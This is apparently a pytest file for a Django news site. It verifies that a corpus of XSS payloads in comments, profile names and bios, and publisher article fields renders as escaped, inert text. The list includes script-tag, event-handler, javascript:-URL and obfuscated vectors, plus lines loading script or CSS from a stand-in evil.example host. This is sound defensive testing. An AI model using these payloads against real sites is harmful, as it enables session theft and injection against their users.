"""An XSS payload corpus in every field a reader controls (and in article text) renders inert."""

from __future__ import annotations

import lxml.html
import pytest

from broadsheet.articles.models import Article
from broadsheet.community import services
from broadsheet.community.models import Comment, profile_of

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
    "<a href='javas&#99;ript:alert(1)'>entity</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "http://example.com/\"onmouseover=\"alert(1)",
    "http://example.com/<script>alert(1)</script>",
    "www.example.com/'onfocus='alert(1)' autofocus='",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<object data=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "{{ 7|add:7 }} {% now 'Y' %}",
]

DANGEROUS_TAGS = {"script", "svg", "img", "iframe", "object", "embed", "style", "math", "form", "details", "body"}


def assert_inert(html: str, region_xpath: str, expected_text: list[str]) -> None:
    """No script-capable markup inside the region, and every payload is there as plain text."""
    doc = lxml.html.fromstring(html)
    regions = doc.xpath(region_xpath)
    assert regions, f"nothing matched {region_xpath}"
    text = " ".join(r.text_content() for r in regions)
    for region in regions:
        for el in region.iter():
            if not isinstance(el.tag, str):
                continue
            assert el.tag not in DANGEROUS_TAGS, lxml.html.tostring(el)
            for name, value in el.attrib.items():
                assert not name.lower().startswith("on"), (name, value)
                if name in {"href", "src", "action", "formaction", "data"}:
                    assert value.lower().startswith(("http://", "https://", "/", "#", "?", "mailto:")), value
    for payload in expected_text:  # (template syntax among them stays text: it is never evaluated)
        assert payload in text, payload


def test_comment_payloads_render_as_text(client, article, alice, policy):
    policy.max_length = 20000
    policy.save()
    for payload in PAYLOADS:
        services.post_comment(alice, article, payload)
    Comment.objects.update(status=Comment.Status.VISIBLE)  # some score as spam; here only rendering counts
    html = client.get(article.get_absolute_url()).content.decode()
    assert "<script>alert(1)</script>" not in html
    assert_inert(html, "//div[@class='comment-body']", [p for p in PAYLOADS if not p.startswith(("http", "www"))])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_display_name_and_bio_payloads_render_as_text(client, article, alice, payload, policy):
    client.force_login(alice)
    client.post("/community/account/", {"display_name": payload[:50], "bio": payload})
    profile = profile_of(alice)
    assert profile.display_name == payload[:50].strip() and profile.bio == payload
    services.post_comment(alice, article, "A harmless remark")
    page = client.get("/community/u/alice/").content.decode()
    assert_inert(page, "//h1 | //div[@class='bio']", [payload[:50].strip()])
    thread = client.get(article.get_absolute_url()).content.decode()
    assert_inert(thread, "//p[@class='comment-meta']", [payload[:50].strip()])


def test_links_in_comments_are_clickable_nofollow_and_nothing_else_is(client, article, alice, policy):
    services.post_comment(alice, article, "Source: https://news.example.org/story?id=1&x=2 and <b>bold</b>")
    html = client.get(article.get_absolute_url()).content.decode()
    doc = lxml.html.fromstring(html)
    links = doc.xpath("//div[@class='comment-body']//a")
    assert [(a.get("href"), a.get("rel")) for a in links] == [
        ("https://news.example.org/story?id=1&x=2", "nofollow ugc noopener")]
    assert doc.xpath("//div[@class='comment-body']//b") == []
    assert "&lt;b&gt;bold&lt;/b&gt;" in html


def test_article_fields_from_publishers_render_as_text(client, article):
    """Article text comes from outside too: the article page escapes it (defence in depth with CSP)."""
    payload = "<img src=x onerror=alert(1)><script>alert(2)</script>"
    Article.objects.filter(pk=article.pk).update(title=payload, body=f"{payload}\n\nsecond", teaser=payload,
                                                 authors=[{"name": payload, "role": payload}])
    html = client.get(article.get_absolute_url()).content.decode()
    assert_inert(html, "//h1[@class='headline'] | //div[@class='body'] | //p[@class='byline']", [payload])


def test_publisher_controlled_fields_are_inert_on_every_page_that_lists_them(client, article):
    """Titles, teasers, bodies, authors and source names come from outside: escaped on every page."""
    payload = '"><svg/onload=alert(1)><img src=x onerror=alert(1)><script>alert(1)</script>'
    Article.objects.filter(pk=article.pk).update(title=payload, body=f"{payload}\n\n{payload}", teaser=payload,
                                                 authors=[{"name": payload, "role": payload}], section="News",
                                                 page_section=payload)
    article.source.name = payload
    article.source.save()
    from broadsheet.stories.pipeline import cluster

    cluster(article)  # placed as the pipeline places it: lists show its story's card
    pages = ["/", "/section/news/", f"/source/{article.source_id}/", article.get_absolute_url()]
    for url in pages:
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert payload not in html, url
        doc = lxml.html.fromstring(html)
        assert [s for s in doc.xpath("//script") if not s.get("src") and not _data_block(s)] == [], url
        assert doc.xpath("//svg | //*[@onload] | //*[@onerror]") == [], url
        assert payload in doc.text_content(), url


def _data_block(script) -> bool:
    """A JSON-LD block (an article's NewsArticle) is data that browsers never run, so CSP does
    not gate it; its text is escaped as json_script's is (tests/web/test_meta.py)."""
    return script.get("type") == "application/ld+json"
